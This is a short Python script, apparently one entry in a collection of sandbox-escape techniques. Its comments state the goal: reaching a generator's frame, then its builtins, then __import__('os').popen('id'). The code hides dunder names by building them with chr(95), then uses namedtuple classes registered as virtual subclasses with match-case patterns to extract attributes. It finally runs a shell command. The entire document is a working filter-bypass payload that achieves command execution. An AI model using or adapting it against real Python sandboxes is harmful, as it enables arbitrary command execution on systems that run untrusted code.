# source: Python docs collections.namedtuple (field names -> __match_args__), abc.ABCMeta.register (virtual subclass), PEP 634 positional class patterns
# family: class statement of the script deriving from a namedtuple with RUN-TIME field names and a collections.abc ABC; register(type(x)) makes x match; no dunder, no argparse
# goal: generator -> gi_frame (frame object) -> f_builtins -> __import__('os').popen('id')
import collections
import collections.abc
import json

u = chr(95)
NF = collections.namedtuple("NF", ["gi" + u + "frame"])
NB = collections.namedtuple("NB", ["f" + u + "builtins"])
NP = collections.namedtuple("NP", ["po" + "pen"])


class GF(NF, collections.abc.Hashable):
    pass


class GB(NB, collections.abc.Hashable):
    pass


class GP(NP, collections.abc.Hashable):
    pass


def gen():
    yield 1


g = gen()
GF.register(type(g))
match g:
    case GF(fr):
        pass
GB.register(type(fr))
match fr:
    case GB(b):
        pass
o = b[u + u + "import" + u + u]("o" + "s")
GP.register(type(o))
match o:
    case GP(pp):
        pass
print(json.dumps({"frame": repr(fr)[:90], "id": pp("id").read()}))
